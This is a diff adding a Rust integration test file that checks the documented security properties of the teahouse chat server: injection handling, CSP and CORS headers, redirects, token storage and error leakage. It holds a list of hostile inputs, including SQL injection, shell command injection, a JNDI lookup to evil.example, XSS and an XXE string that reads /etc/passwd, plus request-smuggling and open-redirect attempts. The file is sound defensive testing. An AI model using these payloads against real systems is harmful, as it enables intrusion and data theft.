@@ -1,0 +1,446 @@
+//! What `docs/security.md` says of the server, and no other test here shows.
+
+use std::{
+    fs::{self, File},
+    process::{Command, Stdio},
+};
+
+use base64::{Engine as _, engine::general_purpose::URL_SAFE_NO_PAD};
+use form_urlencoded::Serializer;
+use reqwest::{Method, Response, StatusCode, header};
+use rusqlite::Connection;
+use serde_json::json;
+use teahouse::{
+    domain::{CommandId, Role, UserKind},
+    protocol::{ErrorCode, MessagesPage, Problem, SessionCreated, SessionList},
+    server::Config,
+};
+use tempfile::TempDir;
+use tokio::{
+    io::{AsyncReadExt as _, AsyncWriteExt as _},
+    net::TcpStream,
+};
+
+use super::support::{
+    Hangup, PASSWORD, PROGRAM, RawClient, TestClient, TestProcess, TestServer, registered, sign_in, within,
+};
+
+/// What programs elsewhere would carry out: SQL, templates, commands, format strings, markup.
+const CODE: [&str; 12] = [
+    "'); DROP TABLE users; --",
+    "\" OR 1=1 --",
+    "x' UNION SELECT password FROM users WHERE '1'='1",
+    "{{7*7}} ${7*7} <%= 7*7 %> #{7*7}",
+    "$(reboot) `reboot` ; reboot | reboot && reboot",
+    "%s %n %x %99999d {} {0} {:?}",
+    "../../etc/passwd",
+    "${jndi:ldap://evil.example/a}",
+    "<svg onload=alert(1)><script>alert(1)</script></svg>",
+    "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>",
+    "*)(uid=*))(|(uid=*",
+    "{\"type\":\"ack\",\"__proto__\":{\"role\":\"owner\"}}",
+];
+
+async fn get(server: &TestServer, path: &str, token: &str) -> Response {
+    server.http(Method::GET, path).bearer_auth(token).send().await.expect("an answer")
+}
+
+/// What comes back to exactly these bytes, up to the end of the head.
+async fn head(server: &TestServer, request: &str) -> String {
+    let mut stream = TcpStream::connect(server.address).await.expect("a connection");
+    stream.write_all(request.as_bytes()).await.expect("an open stream");
+    let mut answer = Vec::new();
+    let reading = async {
+        while !answer.ends_with(b"\r\n\r\n") {
+            answer.push(stream.read_u8().await.expect("a head"));
+        }
+    };
+    within("an answer", reading).await;
+    String::from_utf8(answer).expect("ASCII")
+}
+
+/// Adds an owner, whoever owned the server before.
+async fn owner(server: &TestServer, nickname: &str) -> SessionCreated {
+    registered(server, nickname).await;
+    server.admin(&["promote", nickname, "owner"]).await;
+    sign_in(server, nickname, PASSWORD).await.expect("a session")
+}
+
+#[tokio::test]
+async fn what_looks_like_code_is_text() {
+    let server = TestServer::start_with_pages().await;
+    let mut ming = TestClient::guest(&server, "'); DROP TABLE users; --").await;
+    let mut ling = TestClient::guest(&server, "阿玲").await;
+    let mut said = Vec::new();
+    for code in CODE {
+        ming.say(code).await;
+        let heard = ling.expect_event(code).await;
+        assert_eq!(heard.author, ming.user());
+        said.push(heard.seq);
+    }
+    let page: MessagesPage =
+        get(&server, "/api/conversations/lobby/messages", ling.token()).await.json().await.expect("messages");
+    let bodies: Vec<_> = page.messages.iter().map(|message| message.body.as_str()).collect();
+    assert_eq!(bodies, CODE);
+    assert_eq!(ling.open_direct("'); DROP TABLE users; --").await.last_seq.0, 0);
+    let document = get(&server, "/talk/lobby", ling.token()).await.text().await.expect("a page");
+    for markup in ["<svg onload", "<script>alert", "<!ENTITY"] {
+        assert!(!document.contains(markup), "{markup}");
+    }
+    assert_eq!((server.stored().users, server.stored().events), (2, CODE.len().try_into().expect("a few")));
+}
+
+#[tokio::test]
+async fn what_was_typed_is_decoded_once() {
+    let server = TestServer::start_with_pages().await;
+    let ming = TestClient::guest(&server, "小明").await;
+    let mut ling = TestClient::guest(&server, "阿玲").await;
+    let typed = "%3Cb%3E &lt;i&gt; %2541 \\u0041 + %00";
+    let form = CommandId::generate().to_string();
+    let body = Serializer::new(String::new()).append_pair("form", &form).append_pair("body", typed).finish();
+    let request = server.http(Method::POST, "/talk/lobby").bearer_auth(ming.token());
+    let request = request.header(header::CONTENT_TYPE, "application/x-www-form-urlencoded").body(body);
+    assert_eq!(request.send().await.expect("an answer").status(), StatusCode::SEE_OTHER);
+    ling.expect_event(typed).await;
+    for (path, status) in [("%6cobby", StatusCode::OK), ("%256cobby", StatusCode::NOT_FOUND)] {
+        let path = format!("/api/conversations/{path}/messages");
+        assert_eq!(get(&server, &path, ming.token()).await.status(), status, "{path}");
+    }
+}
+
+#[tokio::test]
+async fn no_answer_is_shared_with_pages_of_other_origins() {
+    let friend = "https://friend.example";
+    let server = TestServer::start_with(|config| config.allow_origin = vec![friend.to_owned()]).await;
+    for origin in [friend, "https://evil.example", "null"] {
+        for (method, path) in [
+            (Method::GET, "/api/me"),
+            (Method::OPTIONS, "/api/me"),
+            (Method::OPTIONS, "/api/session"),
+            (Method::POST, "/api/session"),
+            (Method::GET, "/healthz"),
+            (Method::GET, "/no/page"),
+        ] {
+            let request = server.http(method.clone(), path).header("origin", origin);
+            let answer = request.header("access-control-request-method", "PUT").send().await.expect("an answer");
+            let shared = answer.headers().keys().find(|name| name.as_str().starts_with("access-control"));
+            assert_eq!(shared, None, "{method} {path} for {origin}");
+        }
+    }
+}
+
+#[tokio::test]
+async fn a_page_allows_itself_little_and_is_kept_nowhere() {
+    let server = TestServer::start_with_pages().await;
+    let ming = TestClient::guest(&server, "小明").await;
+    for path in ["/", "/talk/lobby", "/talk/nowhere", "/house", "/house/invites", "/no/page"] {
+        let answer = get(&server, path, ming.token()).await;
+        let header = |name: &str| answer.headers()[name].to_str().expect("ASCII").to_owned();
+        let policy = header("content-security-policy");
+        for nothing in ["default-src", "object-src", "base-uri", "frame-ancestors"] {
+            assert!(policy.contains(&format!("{nothing} 'none'")), "{path}: {policy}");
+        }
+        assert!(policy.contains("connect-src 'self'") && policy.contains("form-action 'self'"), "{path}: {policy}");
+        assert!(!policy.contains("unsafe-inline") && !policy.contains("'unsafe-eval'"), "{path}: {policy}");
+        assert_eq!(header("cache-control"), "no-store", "{path}");
+        assert_eq!(header("x-content-type-options"), "nosniff", "{path}");
+        assert_eq!(header("referrer-policy"), "same-origin", "{path}");
+        assert_eq!(header("x-frame-options"), "DENY", "{path}");
+    }
+}
+
+#[tokio::test]
+async fn to_look_changes_nothing() {
+    let server = TestServer::start_with_pages().await;
+    let ming = TestClient::guest(&server, "小明").await;
+    let link = server.admin(&["invite", "--uses", "1"]).await;
+    let (_, invite) = link.trim().rsplit_once("?invite=").expect(&link);
+    let before = (server.stored(), server.count("sessions"));
+    let from_door = format!("/?invite={invite}&nickname=Carol&password=correct%20horse");
+    for path in [
+        "/",
+        &from_door,
+        "/talk/lobby?body=hello&form=0192f7a0-0000-7000-8000-000000000001",
+        "/house/users/00000000-0000-0000-0000-000000000000?action=ban",
+        "/house/invites?minutes=1",
+        "/api/session?nickname=Carol",
+        "/api/me/password?password=correct%20horse",
+        "/api/invites?minutes=1",
+        "/api/conversations/lobby/messages",
+        "/Carol",
+        "/ws",
+    ] {
+        for method in [Method::GET, Method::HEAD] {
+            server.http(method, path).bearer_auth(ming.token()).send().await.expect("an answer");
+            server.http(Method::GET, path).send().await.expect("an answer");
+        }
+    }
+    assert_eq!((server.stored(), server.count("sessions")), before);
+    assert_eq!(server.count("invites WHERE uses > 0"), 0);
+}
+
+#[tokio::test]
+async fn no_redirect_leads_to_another_host() {
+    let server = TestServer::start_with_pages().await;
+    let ming = TestClient::guest(&server, "小明").await;
+    let evil = "//evil.example/";
+    let form = CommandId::generate().to_string();
+    let mut redirects = 0;
+    for path in [
+        "/talk/lobby",
+        "//evil.example/talk/lobby",
+        "/talk//evil.example",
+        "/talk/%2F%2Fevil.example",
+        "/house//evil.example",
+    ] {
+        for fields in [
+            &[("form", form.as_str()), ("body", "hello")][..],
+            &[("nickname", evil), ("invite", "https://evil.example/"), ("password", evil)],
+            &[("nickname", "小明")],
+        ] {
+            let body = Serializer::new(String::new()).extend_pairs(fields).finish();
+            for token in [Some(ming.token()), None] {
+                let request = server.http(Method::POST, path).body(body.clone());
+                let request = token.into_iter().fold(request, |request, token| request.bearer_auth(token));
+                let answer = request.send().await.expect("an answer");
+                let Some(location) = answer.headers().get(header::LOCATION) else { continue };
+                let location = location.to_str().expect("ASCII");
+                let is_own = location.starts_with('/') && !location.starts_with("//") && !location.starts_with("/\\");
+                assert!(is_own, "{path} {fields:?}: {location}");
+                redirects += 1;
+            }
+        }
+    }
+    assert!(redirects >= 2, "{redirects}");
+}
+
+#[tokio::test]
+async fn a_token_in_an_address_is_worth_nothing() {
+    let server = TestServer::start_with_pages().await;
+    let ming = TestClient::guest(&server, "小明").await;
+    for name in ["token", "session", "access_token", "teahouse_session", "authorization"] {
+        let query = format!("{name}={}", ming.token());
+        let answer = server.http(Method::GET, &format!("/api/me?{query}")).send().await.expect("an answer");
+        assert_eq!(answer.status(), StatusCode::UNAUTHORIZED, "{name}");
+        let mut raw = RawClient::connect(&server, &format!("/ws?{query}")).await;
+        raw.send_json(&json!({ "type": "hello", "protocol": 1 })).await;
+        assert_eq!(raw.hangup().await, Hangup::Code(4401), "{name}");
+    }
+}
+
+/// All that stands in the data folder.
+fn stored_bytes(config: &Config) -> Vec<u8> {
+    let files = fs::read_dir(&config.data).expect("a folder").map(|file| file.expect("a file").path());
+    files.filter(|path| path.is_file()).flat_map(|path| fs::read(path).expect("a file")).collect()
+}
+
+fn holds(bytes: &[u8], text: &str) -> bool {
+    bytes.windows(text.len()).any(|window| window == text.as_bytes())
+}
+
+#[tokio::test]
+async fn tokens_are_256_random_bits_and_neither_they_nor_passwords_are_kept() {
+    let server = TestServer::start().await;
+    let (mut ming, first) = registered(&server, "小明").await;
+    let mut tokens = vec![first];
+    for _ in 0..8 {
+        tokens.push(sign_in(&server, "小明", PASSWORD).await.expect("a session").token);
+    }
+    let link = server.admin(&["invite"]).await;
+    tokens.push(link.trim().rsplit_once("?invite=").expect(&link).1.to_owned());
+    ming.say("what is kept as it was said").await;
+
+    let stored = stored_bytes(&server.config());
+    assert!(holds(&stored, "what is kept as it was said"), "the files are looked into");
+    let mut ones = [0_u32; 256];
+    for token in &tokens {
+        let bits = URL_SAFE_NO_PAD.decode(token).expect("base64url");
+        assert_eq!(bits.len(), 32, "{token}");
+        for (index, count) in ones.iter_mut().enumerate() {
+            *count += u32::from(bits[index / 8] >> (index % 8) & 1);
+        }
+        assert!(!holds(&stored, token), "a token is kept");
+    }
+    // Of ten random tokens hardly one bit in 500 is the same in all of them.
+    let stuck = ones.iter().filter(|count| [0, 10].contains(*count)).count();
+    assert!(stuck < 16, "{stuck} bits never change");
+    assert!(!holds(&stored, PASSWORD), "a password is kept");
+}
+
+#[tokio::test]
+async fn a_fresh_server_has_no_account() {
+    let server = TestServer::start().await;
+    assert_eq!((server.stored().users, server.count("sessions")), (0, 0));
+    // The server's own user cannot be signed in as.
+    assert_eq!(server.count("users WHERE nickname_key IS NOT NULL OR password LIKE '$%'"), 0);
+    for name in ["Teahouse", "茶馆", "admin", "root", "owner"] {
+        for password in ["", "admin", "password", "teahouse", "changeme"] {
+            let refused = sign_in(&server, name, password).await.expect_err(name);
+            assert!([ErrorCode::WrongPassword, ErrorCode::RateLimited].contains(&refused.code), "{name}: {refused:?}");
+        }
+    }
+}
+
+#[tokio::test]
+async fn lists_tell_no_tokens_and_no_addresses() {
+    let server = TestServer::start().await;
+    let owner = owner(&server, "老板").await;
+    let guest = TestClient::guest(&server, "阿玲").await;
+    let request = server.http(Method::POST, "/api/invites").bearer_auth(&owner.token).json(&json!({}));
+    let made: serde_json::Value = request.send().await.expect("an answer").json().await.expect("an invite");
+    let invite = made["token"].as_str().expect("a token");
+    server.admin(&["ban", "阿玲"]).await;
+    for path in [
+        "/api/me",
+        "/api/sessions",
+        "/api/invites",
+        "/api/sanctions",
+        "/api/audit",
+        "/api/conversations",
+        "/api/conversations/lobby/messages",
+    ] {
+        let answer = get(&server, path, &owner.token).await;
+        assert_eq!(answer.status(), StatusCode::OK, "{path}");
+        let told = answer.text().await.expect("a list");
+        for secret in [&owner.token, guest.token(), invite, "127.0.0.1", "argon2"] {
+            assert!(!told.contains(secret), "{secret} in {path}: {told}");
+        }
+    }
+}
+
+#[tokio::test]
+async fn nobody_gives_themselves_what_was_not_asked_for() {
+    let server = TestServer::start().await;
+    let wish = json!({
+        "nickname": "Mallory", "role": "owner", "kind": "registered", "registered": true,
+        "id": "00000000-0000-0000-0000-000000000000", "me": { "role": "owner" },
+    });
+    let answer = server.http(Method::POST, "/api/session").json(&wish).send().await.expect("an answer");
+    let created: SessionCreated = answer.json().await.expect("a session");
+    assert_eq!((created.me.role, created.me.kind), (Role::Member, UserKind::Guest));
+    assert!(!created.me.id.as_uuid().is_nil());
+    let mut hello = wish.clone();
+    hello["nickname"] = json!("Trudy");
+    hello["type"] = json!("hello");
+    hello["protocol"] = json!(1);
+    let welcome = TestClient::hello(server.address, &hello).await.welcome;
+    assert_eq!((welcome.me.role, welcome.me.kind), (Role::Member, UserKind::Guest));
+    assert!(!welcome.me.id.as_uuid().is_nil());
+}
+
+#[tokio::test]
+async fn what_stands_twice_in_a_request_means_one_thing() {
+    let server = TestServer::start_with_pages().await;
+    let twice = r#"{"nickname":"Alice","nickname":"Bob"}"#;
+    let request = server.http(Method::POST, "/api/session").header("content-type", "application/json");
+    let refused = request.body(twice).send().await.expect("an answer");
+    assert_eq!(refused.status(), StatusCode::BAD_REQUEST);
+    assert_eq!(refused.json::<Problem>().await.expect("a problem").code, ErrorCode::BadFrame);
+
+    let mut ming = TestClient::guest(&server, "小明").await;
+    let lobby = ming.lobby().id;
+    let id = CommandId::generate();
+    ming.raw
+        .send_text(&format!(r#"{{"type":"send","id":"{id}","conversation":"{lobby}","body":"one","body":"two"}}"#))
+        .await;
+    assert_eq!(ming.expect_error().await.code, ErrorCode::BadFrame);
+
+    let form = CommandId::generate();
+    let request = server.http(Method::POST, "/talk/lobby").bearer_auth(ming.token());
+    let answer = request.body(format!("form={form}&body=the+first&body=the+second")).send().await.expect("an answer");
+    assert_eq!(answer.status(), StatusCode::SEE_OTHER);
+    ming.expect_event("the first").await;
+    assert_eq!((server.stored().users, server.stored().events), (1, 1));
+}
+
+#[tokio::test]
+async fn two_lengths_of_one_request_are_refused() {
+    let server = TestServer::start().await;
+    let body = r#"{"nickname":"Mallory"}"#;
+    let one = format!("POST /api/session HTTP/1.1\r\nHost: localhost\r\nContent-Length: {}\r\n", body.len());
+    let answer = head(&server, &format!("{one}Content-Length: 5\r\n\r\n{body}")).await;
+    assert!(answer.starts_with("HTTP/1.1 400 "), "{answer}");
+    assert_eq!(server.stored().users, 0);
+    let answer = head(&server, &format!("{one}\r\n{body}")).await;
+    assert!(answer.starts_with("HTTP/1.1 201 "), "{answer}");
+}
+
+#[tokio::test]
+async fn compression_that_is_offered_is_declined() {
+    let server = TestServer::start().await;
+    for door in ["/ws", "/visitor"] {
+        let answer = head(
+            &server,
+            &format!(
+                "GET {door} HTTP/1.1\r\nHost: localhost\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\
+                 Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\
+                 Sec-WebSocket-Extensions: permessage-deflate; client_max_window_bits\r\n\r\n"
+            ),
+        )
+        .await
+        .to_ascii_lowercase();
+        assert!(answer.starts_with("http/1.1 101 "), "{answer}");
+        assert!(!answer.contains("sec-websocket-extensions"), "{answer}");
+    }
+}
+
+#[tokio::test]
+async fn health_says_that_it_is_there_and_no_more() {
+    let server = TestServer::start().await;
+    for (path, words) in [("/healthz", "alive\n"), ("/readyz", "ready\n")] {
+        let answer = server.http(Method::GET, path).send().await.expect("an answer");
+        for name in ["server", "x-powered-by", "via"] {
+            assert!(!answer.headers().contains_key(name), "{path}: {name}");
+        }
+        assert_eq!(answer.text().await.expect("text"), words);
+    }
+    for path in ["/metrics", "/debug", "/status", "/api/debug", "/echo"] {
+        assert_eq!(server.http(Method::GET, path).send().await.expect("an answer").status(), StatusCode::NOT_FOUND);
+    }
+}
+
+#[tokio::test]
+async fn a_password_field_hides_what_is_typed_and_managers_may_fill_it() {
+    let server = TestServer::start_with_pages().await;
+    let page = server.http(Method::GET, "/").send().await.expect("an answer").text().await.expect("a page");
+    let (_, field) = page.split_once("<input id=\"password\"").expect("a field");
+    let (field, _) = field.split_once('>').expect("its end");
+    assert!(field.contains("type=\"password\"") && field.contains("autocomplete=\"current-password\""), "{field}");
+    assert!(!page.contains("onpaste") && !field.contains("maxlength") && !field.contains("pattern"), "{field}");
+}
+
+#[tokio::test]
+async fn an_unexpected_error_is_told_to_the_log_and_not_to_who_asked() {
+    let data = TempDir::new().expect("a folder");
+    let log = data.path().join("log");
+    let mut program = Command::new(PROGRAM);
+    program.env_remove("RUST_LOG").stderr(Stdio::from(File::create(&log).expect("a file")));
+    let process = TestProcess::start_by(program, data.path()).await;
+    let guest = TestClient::guest_at(process.address, "小明").await;
+    // Nobody does this; so nothing was prepared for it.
+    let damage = Connection::open(data.path().join("teahouse.db")).expect("the database");
+    damage.execute_batch("PRAGMA foreign_keys = OFF; DROP TABLE reactions").expect("damage");
+    let url = format!("http://{}/api/conversations/lobby/messages", process.address);
+    let answer = reqwest::Client::new().get(url).bearer_auth(guest.token()).send().await.expect("an answer");
+    assert!(answer.status().is_server_error(), "{}", answer.status());
+    let told = answer.text().await.expect("a problem");
+    for inner in ["reactions", "table", "SQL", "sqlite", "src/", "panicked"] {
+        assert!(!told.contains(inner), "{inner}: {told}");
+    }
+    process.signal("TERM");
+    assert!(process.exit().await.success());
+    let log = fs::read_to_string(&log).expect("the log");
+    assert!(log.lines().any(|line| line.contains("ERROR") && line.contains("reactions")), "{log}");
+}
+
+#[tokio::test]
+async fn a_program_s_name_is_short_and_has_no_control_characters() {
+    let server = TestServer::start().await;
+    let name = format!("curl\t{}", "x".repeat(1_000));
+    let request = server.http(Method::POST, "/api/session").header(header::USER_AGENT, name);
+    let answer = request.json(&json!({ "nickname": "小明" })).send().await.expect("an answer");
+    let created: SessionCreated = answer.json().await.expect("a session");
+    let list: SessionList = get(&server, "/api/sessions", &created.token).await.json().await.expect("a list");
+    let agent = &list.sessions.first().expect("one").agent;
+    assert!(agent.starts_with("curlx") && agent.chars().count() <= 200, "{agent:?}");
+}
